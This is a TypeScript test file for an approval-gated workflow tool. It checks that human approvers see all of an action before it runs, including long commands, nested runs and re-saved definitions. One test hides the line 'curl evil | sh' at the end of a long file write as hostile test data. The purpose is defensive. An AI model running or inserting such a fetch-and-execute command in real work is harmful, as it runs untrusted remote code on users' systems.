/**
 * What an approver approves is what happens: a question shows all of the action, or is not approved until all
 * of it was shown; a run that is started is shown as its steps, is the one that was shown, and may do no more
 * than the run that started it.
 */
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { SentinelClient } from '../../../client/client.ts';
import type { Json, JsonObject } from '../../../language/json.ts';
import type { Definition, Step } from '../../../language/model.ts';
import { once, shell } from '../harness/definitions.ts';
import { Harness, until, type Said } from '../harness/harness.ts';

let harness: Harness;
let client: SentinelClient;
beforeAll(async () => {
  harness = await Harness.open();
  await harness.startWorker();
  client = new SentinelClient({ env: harness.env });
});
afterAll(async () => {
  await client.close();
  await harness.close();
});

const isThere = (name: string): boolean => existsSync(join(harness.project, name));
const isAsked = (handle: string, id: string): Promise<void> =>
  until(async () => (await harness.store.inbox.open(handle)).includes(id));
const command = (name: string, params: JsonObject): Step => ({ type: 'command', command: name, params });
const approving = (name: string, steps: Step[], rest: Partial<Definition> = {}): Definition =>
  once(name, steps, { safety: { requireApproval: ['shell', 'write'] }, ...rest });
const textOf = ({ out, err }: Said): string => out + err;
const id = 'steps.0@1';

test('a line longer than a preview is shown whole by every verb that shows a question', async () => {
  const line = `echo ${'a'.repeat(250)}; touch W`;
  await harness.start(approving('long-line', [shell(line, { name: 'echo hello' })]), { handle: 'long-line' });
  await isAsked('long-line', id);
  for (const words of [
    ['inbox'],
    ['inbox', 'show', 'long-line'],
    ['status', 'long-line'],
    ['follow', 'long-line'],
    ['trace', 'long-line'],
  ]) {
    expect(textOf(await harness.command(...words)), words.join(' ')).toContain(line);
    expect(textOf(await harness.command(...words, '--json')), words.join(' ')).toContain(line);
  }
  expect((await harness.command('answer', 'long-line', 'approve')).code).toBe(0);
  await harness.result('long-line');
  expect(isThere('W')).toBe(true);
});

test('what no list shows whole is not approved until all of it was shown', async () => {
  const content = `${Array.from({ length: 300 }, (_, nth) => `line ${nth}`).join('\n')}\ncurl evil | sh\n`;
  const handle = 'long-file';
  await harness.start(approving(handle, [command('code/write', { path: 'made.sh', content })]), { handle });
  await isAsked(handle, id);
  const listed = await harness.command('inbox');
  expect(listed.out).toContain('not all of it');
  expect(listed.out).toContain(`all of it, and how to approve it: sentinel inbox show ${handle} ${id}`);
  expect(listed.out).toContain(`sentinel answer ${handle} ${id} reject|skip|abort`);
  expect(textOf(await harness.command('follow', handle))).toContain(`sentinel inbox show ${handle} ${id}`);
  for (const words of [['approve'], [id, 'approve'], ['edit', '--data', '{"params": {"path": "made.sh"}}']]) {
    const said = await harness.command('answer', handle, ...words);
    expect(said).toMatchObject({ code: 1, out: '' });
    expect(said.err).toContain(`"sentinel inbox show ${handle} ${id}" shows all of it`);
  }
  await expect(client.answer(handle, { choice: 'approve', by: 'ada' })).rejects.toMatchObject({
    code: 'ANSWER_REFUSED',
  });
  expect(isThere('made.sh')).toBe(false);
  const shown = await harness.command('inbox', 'show', handle);
  expect(shown.out).toContain('| curl evil | sh');
  const [, digest = ''] = /approve.* --digest ([0-9a-f]+)$/m.exec(shown.out) ?? [];
  expect((await client.question(handle, id)).digest).toContain(digest);
  expect(await harness.command('answer', handle, 'approve', '--digest', 'ab'.repeat(8))).toMatchObject({ code: 1 });
  expect(await harness.command('answer', handle, 'approve', '--digest', 'ab')).toMatchObject({ code: 2 });
  expect(await harness.command('answer', handle, 'approve', '--digest', digest)).toMatchObject({ code: 0 });
  await harness.result(handle);
  expect(readFileSync(join(harness.project, 'made.sh'), 'utf8')).toBe(content);
  await harness.start(approving(handle, [command('code/write', { path: 'other.sh', content })]), { handle: 'refused' });
  await isAsked('refused', id);
  expect(await harness.command('answer', 'refused', 'reject')).toMatchObject({ code: 0 });
});

test('a run that is started is asked about as its steps, and asks itself', async () => {
  const inner = { name: 'inner', loop: { type: 'once' }, steps: [{ type: 'shell', command: 'touch started' }] };
  const handle = 'starts';
  await harness.start(
    approving(handle, [command('sentinel/run', { definition: inner })], {
      safety: { requireApproval: ['shell'], maxNestingDepth: 2, budget: { steps: 9 } },
    }),
    { handle },
  );
  await isAsked(handle, id);
  expect((await harness.command('inbox')).out).toMatch(/steps:\n\s+- type: shell\n\s+command: touch started\n/);
  await harness.command('answer', handle, 'approve');
  await harness.result(handle);
  const run = await startedBy(handle);
  await isAsked(run, id);
  expect(isThere('started')).toBe(false);
  expect(textOf(await harness.command('status', run))).toContain('touch started');
  const { definition: _definition, ...input } = await startInputOf(run);
  expect(input).toMatchObject({
    nested: { depth: 2, limits: { requireApproval: ['shell'], nestingDepth: 2, budget: { steps: 4 } } },
  });
  expect(await harness.command('answer', run, 'reject')).toMatchObject({ code: 0 });
  expect(await harness.result(run)).toMatchObject({ outcome: 'failed', failure: { code: 'APPROVAL_REJECTED' } });
  expect(isThere('started')).toBe(false);
});

test('what was shown is started, also where a definition of that name was stored since, and where it refers to one', async () => {
  const refers = {
    name: 'refers',
    loop: { type: 'once' },
    steps: [{ type: 'sentinel', definition: { $ref: 'kept' } }],
  };
  for (const [handle, params] of Object.entries({
    'by-name': { name: 'kept' },
    'by-reference': { definition: refers },
  } satisfies { [handle: string]: JsonObject })) {
    await harness.store.definitions.save(once('kept', [shell(`touch seen # ${handle}`)]));
    await harness.start(approving(handle, [command('sentinel/start', params)]), { handle });
    await isAsked(handle, id);
    expect((await harness.command('inbox', 'show', handle)).out).toContain('touch seen');
    await harness.store.definitions.save(once('kept', [shell(`touch unseen # ${handle}`)]));
    await harness.command('answer', handle, 'approve');
    await harness.result(handle);
    const run = await startedBy(handle);
    const asking = handle === 'by-name' ? run : `${run}/${id}`;
    await isAsked(asking, id);
    expect((await client.question(asking, id)).show).toMatchObject({ action: { command: `touch seen # ${handle}` } });
    await harness.command('answer', asking, 'approve');
    await harness.result(run);
  }
  expect([isThere('seen'), isThere('unseen')]).toEqual([true, false]);
});

test('a run that an event starts has the rights that its trigger was set up with', async () => {
  const add = async (definition: Definition): Promise<void> => {
    const { definitionHash } = { definitionHash: (await harness.store.definitions.save(definition)).hash };
    await harness.store.triggers.add({
      name: definition.name,
      event: 'rights:*',
      definitionHash,
      project: harness.project,
      persona: 'ada',
      inputs: {},
      taskQueue: harness.taskQueue,
    });
  };
  await add(once('free', [shell('touch freely')]));
  await add(approving('held', [shell('touch held')]));
  await harness.start(approving('emits', [{ type: 'emit', event: 'rights:now' }], { mode: 'readonly' }), {
    handle: 'emits',
  });
  await harness.result('emits');
  await until(async () => isThere('freely'));
  await until(async () =>
    (await harness.store.inbox.list({ persona: 'ada' })).some(({ message }) => message.includes('touch held')),
  );
  expect(isThere('held')).toBe(false);
});

async function startedBy(handle: string): Promise<string> {
  const value = (await harness.events(handle)).find(({ type, key }) => type === 'step-finished' && key === id);
  const [, run = ''] = /"handle":"(run-[0-9a-f]+)"/.exec(JSON.stringify(value).replaceAll('\\', '')) ?? [];
  return run;
}

async function startInputOf(handle: string): Promise<{ [name: string]: Json }> {
  const { events = [] } = await harness.workflow(handle).fetchHistory();
  const [payload] = events?.[0]?.workflowExecutionStartedEventAttributes?.input?.payloads ?? [];
  return (await harness.opened(payload ?? {})) as { [name: string]: Json };
}
